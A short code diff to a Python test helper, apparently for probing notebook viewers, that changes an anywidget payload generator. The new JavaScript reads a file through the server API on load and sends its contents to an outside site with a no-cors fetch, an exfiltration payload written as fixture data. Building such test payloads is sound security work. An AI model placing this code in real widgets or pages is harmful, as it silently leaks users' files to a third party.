@@ -137,8 +137,16 @@ class HostileKinds:
         return {WIDGET_STATE: {"version_major": 2, "version_minor": 0, "state": models}}
 
     def module(self, kind: str = "widget") -> str:
-        """The code of an anywidget, which acts as soon as the widget is there."""
-        return f"{self.script(kind)}\nexport default {{ initialize() {{}}, render() {{}} }};"
+        """The code of an anywidget, which reports the file as soon as the widget is there.
+
+        It does nothing else: its author's page has to stay where it is.
+        """
+        api, to = json.dumps(self.api), json.dumps(f"{self.site}/ran/{kind}?")
+        return (
+            f"fetch({api}).then(answer => answer.text())"
+            f".then(text => fetch({to} + encodeURIComponent(text), {{mode: 'no-cors'}}));\n"
+            "export default { render() {} };"
+        )
 
     def _data_url(self, kind: str) -> str:
         script = self.script(kind).replace("%", "%25").replace("#", "%23").replace("'", "%27")
